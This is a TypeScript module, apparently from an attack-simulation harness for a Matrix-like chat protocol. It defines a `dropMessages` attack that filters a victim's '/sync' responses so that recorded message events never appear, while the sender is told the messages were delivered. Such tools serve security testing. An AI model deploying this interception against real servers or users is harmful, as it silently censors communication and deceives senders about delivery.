/** Keeps messages for the victim back. Who sent them is told that they have been delivered. */
import { isVictim, type Attack, type AttackOptions, type Memory } from "./attack.ts";
import { isMessage, isNews, timelineEvents, withEvents } from "./sync.ts";

/** What was kept back once is kept back for good. */
export function dropMessages(
  { userOf }: Pick<AttackOptions, "userOf">,
  /** Ids of events that were kept back. */
  memory: Memory<readonly string[]>,
): Attack {
  return {
    async answer(ask, answer, on) {
      if (!isVictim(ask) || !ask.path.endsWith("/sync")) return undefined;
      if (on && isNews(ask)) {
        const news = timelineEvents(answer).filter((event) => isMessage(event, userOf(ask.device)));
        if (news.length > 0) await memory.set([...memory.value, ...news.map((event) => event.event_id)]);
      }
      return withEvents(answer, (event) => (memory.value.includes(event.event_id) ? [] : [event]));
    },
  };
}
